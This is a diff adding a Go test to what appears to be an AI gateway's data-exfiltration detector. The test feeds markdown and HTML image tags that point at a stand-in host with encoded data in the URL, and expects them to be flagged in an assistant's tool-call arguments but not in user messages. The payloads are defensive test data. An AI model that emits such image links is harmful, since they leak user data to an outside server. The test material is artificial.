@@ -44,3 +44,23 @@ func TestLinks(t *testing.T) {
 		}
 	}
 }
+
+// TestImageInArguments holds that an image that carries data out is told in what a model hands to a tool, which may post it, and not
+// in what people send to a model.
+func TestImageInArguments(t *testing.T) {
+	g := load(t, `{"rules":[{"name":"l","match":["DATA_EXFILTRATION"],"minScore":0.8,"action":"Log"}]}`)
+	for _, image := range []string{
+		"see ![x](https://e.example/p.png?d=c2VjcmV0IGRhdGE=)",
+		`<img src="http://e.example/x?c=abc" width=1 height=1>`,
+	} {
+		args := jsonString(`{"text":` + jsonString(image) + `}`)
+		for body, want := range map[string]int{
+			`{"messages":[{"role":"assistant","tool_calls":[{"id":"1","type":"function","function":{"name":"post","arguments":` + args + `}}]}]}`: 1,
+			`{"messages":[{"role":"user","content":` + jsonString(image) + `}]}`:                                                                  0,
+		} {
+			if _, o := ask(t, g, "/v1/chat/completions", body); len(o.Findings) != want {
+				t.Errorf("%s: %d findings, want %d", body, len(o.Findings), want)
+			}
+		}
+	}
+}
